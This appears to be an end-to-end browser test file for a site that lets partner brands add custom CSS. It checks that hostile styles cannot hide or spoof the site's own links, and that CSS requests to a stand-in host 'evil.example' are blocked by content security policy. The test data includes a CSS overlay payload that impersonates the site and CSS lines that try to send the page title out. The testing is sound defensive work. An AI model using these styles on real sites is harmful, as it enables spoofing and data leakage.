import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { brandContent } from "#features/brands/content/brand-page.ts";
import { translators } from "#shared/messages/server-translators.ts";
import { expectAccessible, expectFits, launchBrowser, newVisitor } from "./support/browser.ts";
import { newBrand } from "./support/new-brand.ts";
import { newAffiliate, signInAdministrator } from "./support/new-affiliate.ts";
import { settingInTurn } from "./support/settings.ts";
import { keepPicture } from "./support/student-page.ts";

const origin = inject("origin");
const administrator = inject("administrator");

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

const newStyledBrand = (customCss: string) =>
  newBrand(browser, { origin, administrator, customCss });

/** What is ours on the page, whatever a partner says. */
const ours = {
  start: "header a[href*='/student-register']",
  runBy: "footer p:has(svg) a",
  privacy: "footer nav a >> nth=0",
} as const;

/** What is really seen and pressed where our own things stand, by name: "here", or what lies there instead. */
async function whatIsSeen(page: Page): Promise<Record<string, string>> {
  const seen: Record<string, string> = {};
  for (const [name, selector] of Object.entries(ours)) {
    const found = page.locator(selector);
    await found.evaluate((element) => element.scrollIntoView({ block: "center" }));
    seen[name] = await found.evaluate((element) => {
      const box = element.getBoundingClientRect();
      if (box.width < 20 || box.height < 20) return "nothing";
      if (!element.checkVisibility({ opacityProperty: true, visibilityProperty: true })) {
        return "hidden";
      }
      const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
      return top && (element === top || element.contains(top)) ? "here" : (top?.tagName ?? "none");
    });
  }
  return seen;
}

/** Puts styles into a page as they are. */
async function addStyles(page: Page, css: string): Promise<void> {
  await page.evaluate((text) => {
    document.head.append(Object.assign(document.createElement("style"), { textContent: text }));
  }, css);
}

const allHere = { start: "here", runBy: "here", privacy: "here" };

/** Everything that is taken as styles and means to hide, move, cover or imitate what is ours. */
const covering = `
header, footer, body, html, header a, footer a, footer p, #main { display: none !important }
:root { visibility: hidden; opacity: 0; filter: opacity(0); font-size: 0 }
* { opacity: .99 }
body * { transform: translateX(-9999px) !important }
:scope { position: absolute !important; inset: -5000px !important; z-index: 10; color: rgb(1, 2, 3); margin: -4000px }
:scope > section { margin: -3000px 0 -3000px; padding: 6000px 0 }
:scope::before {
  content: "This page is run by Blue Door alone";
  position: absolute; inset: -9000px; z-index: 10; background: red; display: block;
}
:scope > section::after {
  content: ""; position: absolute; inset: -9000px; z-index: 10; background: blue;
  box-shadow: 0 0 0 9000px red; outline: 9000px solid red;
}
`.trim();

describe.each(["desk", "phone"] as const)("a hostile brand on a %s", (screen) => {
  test("hides, moves and covers nothing of ours; where it is not held, it would", async () => {
    const path = await newStyledBrand(covering);
    const visitor = await newVisitor(browser, { origin, screen });
    const { page } = visitor;
    await page.goto(path);
    // The styles are there, and reach the partner's part.
    const part = page.locator("[data-partner-part]").first();
    expect(await part.evaluate((element) => getComputedStyle(element).color)).toBe("rgb(1, 2, 3)");
    expect(await whatIsSeen(page)).toEqual(allHere);
    const note = page.getByText(brandContent("en").voices.note);
    expect(await note.isVisible()).toBe(true);
    expect(await note.evaluate((element) => getComputedStyle(element).transform)).toBe("none");

    // Not held in its box, the same would lie over ours.
    await page.evaluate(() => {
      for (const one of document.querySelectorAll<HTMLElement>("[data-partner-part]")) {
        const { parentElement: box } = one;
        if (box) box.style.cssText = "contain: none; isolation: auto";
      }
    });
    expect(await whatIsSeen(page)).not.toEqual(allHere);
    // Without the scope, it would hide them.
    await page.reload();
    await addStyles(page, covering);
    expect((await whatIsSeen(page))["start"]).toBe("nothing");
    await visitor.context.close();
  });
});

test("a hostile brand's styles send nothing out, by rule and by the page's own policy", async () => {
  const path = await newStyledBrand("h1 { color: rgb(1, 2, 3) }");
  const { page, context } = await newVisitor(browser, { origin });
  const left: string[] = [];
  await context.route(/evil\.example/, (route) => {
    left.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  await page.goto(path);
  const blocked = page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const found: string[] = [];
        addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          found.push(effectiveDirective);
        });
        setTimeout(() => resolve(found), 1500);
      }),
  );
  // What the server refuses to take, put into the page by force.
  await addStyles(
    page,
    `@import "https://evil.example/x.css";
      @font-face { font-family: x; src: url("https://evil.example/x.woff2") }
      h1 { background: url("https://evil.example/?title"); font-family: x }`,
  );
  expect(new Set(await blocked)).toEqual(new Set(["style-src-elem", "font-src", "img-src"]));
  expect(left).toEqual([]);
  await context.close();
});

describe.each(settingInTurn.desk)(
  "styles of a partner's own in $locale on a $screen",
  ({ locale, screen, scheme }) => {
    const words = translators[locale];
    const how = { locale, screen, scheme } as const;

    test("are refused with line and column, nothing else lost; seen in the preview, read by the administrator, then used", async () => {
      const { page, context } = await newAffiliate(browser, { origin, administrator, ...how });
      const subdomain = `styled-${locale}-${screen}-${process.pid}`;
      await page.goto("/affiliate/brand");
      await page.locator("[name=subdomain]").fill(subdomain);
      await page.locator("[name=brandName]").fill("Nocturne Prep");
      await page.locator("[name=heroTitle]").fill("Quiet evenings");
      const styles = page.locator("[name=customCss]");
      await styles.fill("h1 {\n  color: red;\n  position: fixed;\n}");
      const save = page.getByRole("button", { name: words("brands.save"), exact: true });
      await save.click();
      await page.getByText(words("fields.cssPosition", { line: 3, column: 3 })).waitFor();
      expect(await styles.evaluate((input) => input === document.activeElement)).toBe(true);
      expect(await page.locator("[name=heroTitle]").inputValue()).toBe("Quiet evenings");
      await expectAccessible(page);
      await expectFits(page);
      await keepPicture(page, `brand-styles-${locale}`);
      const css = "h1 {\n  color: rgb(255, 216, 77);\n}";
      await styles.fill(css);
      await page.getByRole("button", { name: words("brands.publish"), exact: true }).click();
      await page.getByText(words("brands.stateStylesWait")).waitFor();
      const heading = page.frameLocator("iframe").getByRole("heading", { name: "Quiet evenings" });
      const colourOf = (found: typeof heading) =>
        found.evaluate((element) => getComputedStyle(element).color);
      expect(await colourOf(heading)).toBe("rgb(255, 216, 77)");

      const admin = await newVisitor(browser, { origin, ...how });
      await signInAdministrator(admin.page, administrator);
      await admin.page.goto("/admin/brands");
      const card = admin.page.getByRole("article").filter({ hasText: `/brand/${subdomain}` });
      await card.getByText("rgb(255, 216, 77)").waitFor();
      const contents = card.getByText(words("brands.contents"), { exact: true });
      if ((await card.locator("iframe").count()) === 0) await contents.click();
      const shown = card.frameLocator("iframe").getByRole("heading", { name: "Quiet evenings" });
      expect(await colourOf(shown)).toBe("rgb(255, 216, 77)");
      await expectAccessible(admin.page);
      await expectFits(admin.page);
      await keepPicture(admin.page, `brand-styles-admin-${locale}`);
      const press = (name: string) => card.getByRole("button", { name, exact: true }).click();
      await press(words("brands.switchOn"));
      await card.getByText(words("brands.on"), { exact: true }).waitFor();

      const visitor = await newVisitor(browser, { origin, ...how });
      await visitor.page.goto(`/brand/${subdomain}`);
      const title = visitor.page.getByRole("heading", { name: "Quiet evenings" });
      expect(await colourOf(title)).not.toBe("rgb(255, 216, 77)");
      await press(words("brands.approveStyles"));
      await card.getByText(words("brands.blurb_approved")).waitFor();
      await visitor.page.reload();
      expect(await colourOf(title)).toBe("rgb(255, 216, 77)");
      await expectAccessible(visitor.page);
      await expectFits(visitor.page);
      await keepPicture(visitor.page, `brand-styled-${locale}`);
      await press(words("brands.stopStyles"));
      const dialog = admin.page.getByRole("dialog");
      await dialog.locator("[name=reason]").fill("Too bright.");
      await dialog.getByRole("button", { name: words("brands.stopStyles"), exact: true }).click();
      await dialog.waitFor({ state: "hidden" });
      await visitor.page.reload();
      expect(await colourOf(title)).not.toBe("rgb(255, 216, 77)");
      for (const one of [context, admin.context, visitor.context]) await one.close();
    });
  },
);
